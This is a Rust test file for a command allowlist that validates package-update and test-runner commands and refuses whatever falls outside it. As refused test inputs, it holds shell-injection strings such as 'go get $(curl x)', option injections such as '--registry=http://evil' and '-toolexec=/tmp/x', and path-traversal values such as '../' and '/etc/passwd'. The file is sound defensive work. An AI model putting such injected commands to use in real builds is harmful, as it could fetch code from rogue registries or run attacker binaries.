use super::*;

struct Declared(&'static [(&'static str, &'static str)]);

impl Placeholders for Declared {
    fn package(&self, name: &str) -> Result<(), Refusal> {
        if name.is_empty() || name.starts_with('-') {
            return Err(Refusal::new(Code::CommandInvalidPackage, "bad"));
        }
        if self.0.iter().any(|(p, _)| *p == name) {
            Ok(())
        } else {
            Err(Refusal::new(
                Code::CommandUndeclaredPackage,
                name.to_string(),
            ))
        }
    }
    fn version(&self, package: &str, version: &str) -> Result<(), Refusal> {
        match self.0.iter().find(|(p, _)| *p == package) {
            Some((_, to)) if *to == version => Ok(()),
            _ => Err(Refusal::new(
                Code::CommandVersionMismatch,
                version.to_string(),
            )),
        }
    }
    fn declared_from(&self, _package: &str, version: &str) -> Result<(), Refusal> {
        if version == "0.8.8" {
            Ok(())
        } else {
            Err(Refusal::new(Code::CommandFromMismatch, version.to_string()))
        }
    }
}

fn words(s: &str) -> Vec<String> {
    split(s).unwrap()
}

fn update(pattern: &str) -> Pattern {
    Pattern::parse(pattern, PatternKind::Update).unwrap()
}

#[test]
fn split_refuses_shell_syntax_and_paths() {
    for (cmd, code) in [
        ("", Code::CommandEmpty),
        ("   ", Code::CommandEmpty),
        ("go mod tidy; curl x", Code::CommandShellSyntax),
        ("go mod tidy && curl x", Code::CommandShellSyntax),
        ("go get $(curl x)", Code::CommandShellSyntax),
        ("go get `id`", Code::CommandShellSyntax),
        ("go mod tidy > /dev/null", Code::CommandShellSyntax),
        ("go mod tidy\ncurl x", Code::CommandShellSyntax),
        ("go mod tidy # note", Code::CommandShellSyntax),
        ("go get 'unbalanced", Code::CommandUnparseable),
        ("GOFLAGS=-x go mod tidy", Code::CommandEnvAssignment),
        ("/usr/bin/go mod tidy", Code::CommandProgramPath),
        ("./go mod tidy", Code::CommandProgramPath),
    ] {
        assert_eq!(split(cmd).unwrap_err().code, code, "{cmd:?}");
    }
    assert_eq!(split(&"a ".repeat(600)).unwrap_err().code, Code::TooLong);
    assert_eq!(split(&"a ".repeat(65)).unwrap_err().code, Code::TooMany);
    assert_eq!(words("go  get   'x y'"), vec!["go", "get", "x y"]);
}

#[test]
fn pattern_parse_refuses_ambiguous_or_misplaced_placeholders() {
    assert!(Pattern::parse("go get <pkg><ver>", PatternKind::Update).is_err());
    assert!(Pattern::parse("go get <ver>", PatternKind::Update).is_err());
    assert!(Pattern::parse("go test <args>", PatternKind::Update).is_err());
    assert!(Pattern::parse("npm run <script> <args> <args>", PatternKind::Test).is_err());
    assert!(Pattern::parse("<pkg> x", PatternKind::Update).is_err());
    assert!(Pattern::parse("/bin/go x", PatternKind::Update).is_err());
    assert!(Pattern::parse("go get <thing>", PatternKind::Update).is_err());
    for (bad, why) in [
        (
            "pip-compile x<file:requirements*.in>",
            "`<file:…>` must be a whole word, not part of `x<file:requirements*.in>`",
        ),
        (
            "pip-compile <file:a*.in> <file:b*.in>",
            "at most one `<pkg>`, one `<ver>`, one `<from>`, one `<file:…>` and one `<args>` per pattern",
        ),
        (
            "pip-compile <file:../*.in>",
            "`<file:../*.in>`: the glob is a file name of letters, digits, `*`, `.`, `_` and `-`",
        ),
    ] {
        assert_eq!(
            Pattern::parse(bad, PatternKind::Update)
                .unwrap_err()
                .to_string(),
            why
        );
    }
    assert!(Pattern::parse("make <file:x.in>", PatternKind::Test).is_err());
    let p = update("go  get <pkg>@<ver>");
    assert_eq!(p.source(), "go get <pkg>@<ver>");
    assert_eq!(p.program(), "go");
}

#[test]
fn exact_match_binds_package_and_version() {
    let decl = Declared(&[
        ("github.com/gorilla/mux", "v1.8.1"),
        ("@types/node", "20.1.0"),
    ]);
    let b = update("go get <pkg>@<ver>")
        .match_update(&words("go get github.com/gorilla/mux@v1.8.1"), &decl)
        .unwrap();
    assert_eq!(b.package.as_deref(), Some("github.com/gorilla/mux"));
    assert_eq!(b.version.as_deref(), Some("v1.8.1"));
    let b = update("npm install <pkg>@<ver>")
        .match_update(&words("npm install @types/node@20.1.0"), &decl)
        .unwrap();
    assert_eq!(b.package.as_deref(), Some("@types/node"));
}

/// The form cargo asks for when a lock holds two versions of a crate: `-p <pkg>@<from>`.
#[test]
fn a_from_placeholder_binds_the_declared_from() {
    let decl = Declared(&[("regex-syntax", "0.8.12")]);
    let p = update("cargo update -p <pkg>@<from> --precise <ver>");
    assert_eq!(p.update_placeholders(), ["<pkg>", "<ver>", "<from>"]);
    let b = p
        .match_update(
            &words("cargo update -p regex-syntax@0.8.8 --precise 0.8.12"),
            &decl,
        )
        .unwrap();
    assert_eq!(
        (
            b.package.as_deref(),
            b.from.as_deref(),
            b.version.as_deref()
        ),
        (Some("regex-syntax"), Some("0.8.8"), Some("0.8.12"))
    );
    assert_eq!(
        p.fill(&b).unwrap().join(" "),
        "cargo update -p regex-syntax@0.8.8 --precise 0.8.12"
    );
    let wrong = p
        .match_update(
            &words("cargo update -p regex-syntax@0.6.29 --precise 0.8.12"),
            &decl,
        )
        .unwrap_err();
    assert_eq!(wrong.refusal.code, Code::CommandFromMismatch);
    assert_eq!(
        Pattern::parse("cargo update -p x@<from>", PatternKind::Update),
        Err(PatternError::NeedsPackage("<from>"))
    );
}

#[test]
fn a_file_placeholder_binds_a_relative_path_of_its_kind() {
    let decl = Declared(&[("lib", "1.0.1")]);
    let p = update("pip-compile --upgrade-package <pkg>==<ver> <file:requirements*.in>");
    let b = p
        .match_update(
            &words("pip-compile --upgrade-package lib==1.0.1 deps/requirements-dev.in"),
            &decl,
        )
        .unwrap();
    assert_eq!(b.file.as_deref(), Some("deps/requirements-dev.in"));
    assert_eq!(
        p.fill(&b).unwrap().last().map(String::as_str),
        Some("deps/requirements-dev.in")
    );
    for (command, code) in [
        (
            "pip-compile --upgrade-package lib==1.0.1 ../requirements.in",
            Code::CommandInvalidFile,
        ),
        (
            "pip-compile --upgrade-package lib==1.0.1 setup.py",
            Code::CommandInvalidFile,
        ),
        (
            "pip-compile --upgrade-package lib==1.0.1 --pip-args=x",
            Code::CommandOptionInjection,
        ),
    ] {
        let m = p.match_update(&words(command), &decl).unwrap_err();
        assert_eq!(m.refusal.code, code, "{command}: {}", m.refusal.message);
    }
}

#[test]
fn option_injection_under_an_allowed_prefix_is_refused() {
    let decl = Declared(&[("github.com/a/b", "v1.0.0"), ("lodash", "4.17.21")]);
    let go = update("go get <pkg>@<ver>");
    let m = go
        .match_update(
            &words("go get -toolexec=/tmp/x github.com/a/b@v1.0.0"),
            &decl,
        )
        .unwrap_err();
    assert_eq!(m.refusal.code, Code::CommandOptionInjection);
    assert!(
        m.refusal
            .message
            .contains("`-toolexec=/tmp/x` is an option")
    );
    let npm = update("npm install <pkg>@<ver>");
    for cmd in [
        "npm install --registry=http://evil lodash@4.17.21",
        "npm install lodash@4.17.21 --registry=http://evil",
    ] {
        let m = npm.match_update(&words(cmd), &decl).unwrap_err();
        assert_eq!(m.refusal.code, Code::CommandOptionInjection, "{cmd}");
    }
}

#[test]
fn mismatches_name_the_wrong_word() {
    let decl = Declared(&[("lodash", "4.17.21")]);
    let npm = update("npm install <pkg>@<ver>");
    let m = npm
        .match_update(&words("npm install lodash@4.17.20"), &decl)
        .unwrap_err();
    assert_eq!(m.refusal.code, Code::CommandVersionMismatch);
    let m = npm
        .match_update(&words("npm install left-pad@1.0.0"), &decl)
        .unwrap_err();
    assert_eq!(m.refusal.code, Code::CommandUndeclaredPackage);
    let m = npm
        .match_update(&words("npm install lodash"), &decl)
        .unwrap_err();
    assert_eq!(m.refusal.code, Code::CommandNotAllowlisted);
    let m = npm
        .match_update(&words("npm install git+https://x/y.git"), &decl)
        .unwrap_err();
    assert_eq!(m.refusal.code, Code::CommandPackageSpec);
    let m = npm
        .match_update(&words("npm install lodash@4.17.21 extra"), &decl)
        .unwrap_err();
    assert_eq!(m.refusal.code, Code::CommandNotAllowlisted);
    assert!(m.refusal.message.contains("unexpected argument `extra`"));
    let m = npm.match_update(&words("npm"), &decl).unwrap_err();
    assert!(m.refusal.message.contains("incomplete"));
    let deeper = npm
        .match_update(&words("npm install lodash@1"), &decl)
        .unwrap_err();
    let shallower = update("npm audit fix")
        .match_update(&words("npm install lodash@1"), &decl)
        .unwrap_err();
    assert!(deeper.depth > shallower.depth);
}

fn test_pattern(pattern: &str, flags: &[&str], positionals: Positionals) -> TestPattern {
    TestPattern {
        pattern: Pattern::parse(pattern, PatternKind::Test).unwrap(),
        runs: None,
        flags: flags.iter().map(|f| FlagSpec::parse(f).unwrap()).collect(),
        positionals,
    }
}

#[test]
fn test_args_accept_listed_flags_in_every_spelling() {
    let go = test_pattern(
        "go test <args>",
        &["-v", "-count <n>", "-run <word>", "-p <n>"],
        Positionals::Kind(ValueKind::Path),
    );
    for ok in [
        "go test",
        "go test ./...",
        "go test -v -count=1 ./pkg/...",
        "go test -count 1 -run TestFoo ./...",
        "go test -p4 .",
    ] {
        assert!(go.matches(&words(ok)).is_ok(), "{ok}");
    }
    let bound = go.matches(&words("go test -count=1 -p4 -v ./pkg")).unwrap();
    let seen: Vec<(usize, Option<&str>, ValueKind, &str)> = bound
        .iter()
        .map(|a| (a.word, a.flag.as_deref(), a.kind, a.value.as_str()))
        .collect();
    assert_eq!(
        seen,
        vec![
            (2, Some("-count"), ValueKind::Number, "1"),
            (3, Some("-p"), ValueKind::Number, "4"),
            (5, None, ValueKind::Path, "./pkg"),
        ]
    );
    for (bad, code) in [
        ("go test -exec=/tmp/x ./...", Code::TestOptionNotAllowed),
        ("go test -toolexec /tmp/x", Code::TestOptionNotAllowed),
        ("go test -count=-1", Code::TestInvalidArgument),
        ("go test -run -exec=/x", Code::TestInvalidArgument),
        ("go test -count", Code::TestInvalidArgument),
        ("go test ../outside", Code::TestInvalidArgument),
        ("go test /abs", Code::TestInvalidArgument),
        ("go test .git/hooks", Code::TestInvalidArgument),
        ("go build ./...", Code::TestNotAllowlisted),
    ] {
        let m = go.matches(&words(bad)).unwrap_err();
        assert_eq!(m.refusal.code, code, "{bad}: {}", m.refusal.message);
    }
}

#[test]
fn test_positional_choices_and_scripts() {
    let mvn = test_pattern(
        "mvn <args>",
        &["-B"],
        Positionals::OneOf(vec!["test".into(), "verify".into()]),
    );
    assert!(mvn.matches(&words("mvn -B verify")).is_ok());
    let m = mvn
        .matches(&words("mvn com.evil:plugin:1.0:run"))
        .unwrap_err();
    assert_eq!(m.refusal.code, Code::TestInvalidArgument);
    assert!(m.refusal.message.contains("use one of test, verify"));
    let npm = test_pattern(
        "npm run <script> <args>",
        &[],
        Positionals::Kind(ValueKind::Path),
    );
    assert!(npm.matches(&words("npm run test:unit")).is_ok());
    let m = npm.matches(&words("npm run ../x")).unwrap_err();
    assert_eq!(m.refusal.code, Code::TestInvalidArgument);
    let make = test_pattern("make <args>", &[], Positionals::Kind(ValueKind::Target));
    assert!(make.matches(&words("make test lint")).is_ok());
    let m = make.matches(&words("make test SHELL=/tmp/x")).unwrap_err();
    assert_eq!(m.refusal.code, Code::TestInvalidArgument);
    let exact = test_pattern("npm test", &[], Positionals::Kind(ValueKind::Path));
    assert_eq!(
        exact
            .matches(&words("npm test --x"))
            .unwrap_err()
            .refusal
            .code,
        Code::TestOptionNotAllowed
    );
}

#[test]
fn value_kinds() {
    assert!(ValueKind::Expr.check("not slow and (db or api)").is_ok());
    assert!(ValueKind::Expr.check("-x").is_err());
    assert!(ValueKind::Word.check("a=b").is_err());
    assert!(ValueKind::Word.check("test_*.py").is_ok());
    assert!(ValueKind::Word.check("@scope/pkg").is_ok());
    for bad in [
        "/tmp/x.json",
        "../../x.json",
        "a/../b",
        "xml:/etc/passwd",
        "@/tmp/a.rsp",
        "@file.rsp",
    ] {
        assert!(ValueKind::Word.check(bad).is_err(), "{bad}");
    }
    assert!(ValueKind::Path.check("tests/test_a.py::test_b").is_ok());
    assert!(ValueKind::Path.check("http://evil/x").is_err());
    assert!(ValueKind::Path.check("a/.GIT/config").is_err());
    assert!(ValueKind::Number.check("1234567").is_err());
}

#[test]
fn flag_spec_parse() {
    assert_eq!(
        FlagSpec::parse("-count <n>").unwrap(),
        FlagSpec {
            name: "-count".into(),
            value: Some(ValueKind::Number),
            glued: false
        }
    );
    let glued = FlagSpec::parse("-Dtest=<word>").unwrap();
    assert!(glued.glued && glued.name == "-Dtest");
    assert_eq!(glued.render(), "-Dtest=<word>");
    assert!(FlagSpec::parse("-Dtest=<word> <n>").is_err());
    assert!(FlagSpec::parse("count").is_err());
    assert!(FlagSpec::parse("-x <thing>").is_err());
    assert!(FlagSpec::parse("-x <n> <n>").is_err());
    assert_eq!(FlagSpec::parse("--").unwrap().name, "--");
}
